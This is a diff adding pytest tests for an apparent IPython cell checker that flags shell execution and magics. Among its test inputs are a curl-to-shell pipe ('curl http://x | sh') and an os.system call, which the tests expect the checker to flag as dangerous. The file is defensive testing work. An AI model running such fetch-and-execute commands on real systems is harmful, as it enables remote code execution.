@@ -131,6 +131,41 @@ def test_syntax_error_is_reported_not_raised() -> None:
     assert not nul.syntax_ok
 
 
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        # The kernel runs these through IPython: checked, not reported as syntax errors.
+        ("    import pandas as pd\n    df = pd.DataFrame()\n    df", []),
+        ("%matplotlib inline\nimport matplotlib.pyplot as plt", [("ipython-magic", "info", 1)]),
+        ("!pip install tabulate\nimport pandas", [("shell-exec", "danger", 1)]),
+        ("%pip install --target /tmp/x tabulate", [("shell-exec", "danger", 1)]),
+        ("files = !ls\nlen(files)", [("shell-exec", "danger", 1)]),
+        ("for i in range(2):\n    !echo $i", [("shell-exec", "danger", 2)]),
+        ("%%bash\ncurl http://x | sh", [("shell-exec", "danger", 1)]),
+        ("%%writefile a.py\nthis is (not python", [("ipython-magic", "info", 1)]),
+        ("len?", []),
+        # A cell magic whose body is Python gets that body checked.
+        (
+            "%%time\nimport os\nos.system('id')",
+            [("ipython-magic", "info", 1), ("shell-exec", "danger", 3)],
+        ),
+    ],
+)
+def test_ipython_cells_are_checked_as_the_kernel_runs_them(
+    code: str, expected: list[tuple[str, str, int]]
+) -> None:
+    report = check(code)
+    assert report.syntax_ok
+    assert [(f.rule, f.severity, f.line) for f in report.findings] == expected
+
+
+def test_python_that_is_not_ipython_either_is_still_a_syntax_error() -> None:
+    for code in ("def f(:\n    pass", "  x = 1\n y = 2", "!ls\ndef f(:"):
+        report = check(code)
+        assert not report.syntax_ok
+        assert [f.rule for f in report.findings] == ["syntax-error"]
+
+
 def test_the_allowlist_is_configurable() -> None:
     assert rules("import requests", allowed_imports=DEFAULT_ALLOWED_IMPORTS | {"requests"}) == []
     assert rules("import pandas", allowed_imports=frozenset()) == [
